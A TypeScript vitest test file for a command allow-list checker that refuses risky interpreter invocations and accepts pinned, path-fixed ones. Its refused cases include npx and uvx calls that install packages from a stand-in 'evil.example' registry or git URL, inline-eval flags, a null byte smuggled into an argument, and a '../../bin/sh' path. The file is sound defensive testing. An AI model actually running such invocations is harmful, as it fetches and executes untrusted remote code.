import { expect, test } from 'vitest';
import { CommandRules } from './command-rules.ts';

const rules = new CommandRules(['node', 'python3', 'npx', 'npm', 'bash', 'absent'], '/usr/local/bin:/usr/bin:/bin');

test.each([
  ['node', ['-e', 'x']],
  ['node', ['--eval=x']],
  ['node', ['--import', 'data:,x', 'a.js']],
  ['node', ['-r', './a.js', 'b.js']],
  ['node', ['--inspect-brk', 'a.js']],
  ['node', ['-']],
  ['/usr/bin/python3.11', ['-c', 'x']],
  ['python3', ['-m', 'http.server']],
  ['python3', ['-uc', 'x']],
  ['npx', ['-c', 'x']],
  ['npx', ['--call=x']],
  ['npx', ['-y', 'left-pad']],
  ['npx', ['-y', 'left-pad@latest']],
  ['npx', ['--registry=https://evil.example', 'a@1.2.3']],
  ['npx', ['-y', 'git+https://evil.example/a.git']],
  ['npm', ['run', 'x']],
  ['npm', ['install', 'x']],
  ['uvx', ['--from', 'git+https://evil.example/a', 'a']],
  ['node', ['a\0b']],
])('%s %j is refused: it would run what its arguments say', (command, args) => {
  expect(() => rules.check(command, args)).toThrow(/refused|version|zero/);
});

test.each([
  ['node', ['/srv/scripts/a.js', '--port', '1']],
  ['python3', ['-u', '/srv/scripts/a.py']],
  ['npx', ['-y', '@scope/name@1.2.3']],
])('%s %j is allowed', (command, args) => {
  expect(() => rules.check(command, args)).not.toThrow();
});

test('a command is an absolute path, and a refusal names the setting', () => {
  expect(() => rules.resolve('curl')).toThrow(/allowed_commands/);
  expect(() => rules.resolve('../../bin/sh')).toThrow(/allowed_commands/);
  expect(() => rules.resolve('absent')).toThrow(/not installed/);
  expect(() => rules.resolve('bash')).toThrow(/may never be a server/);
});
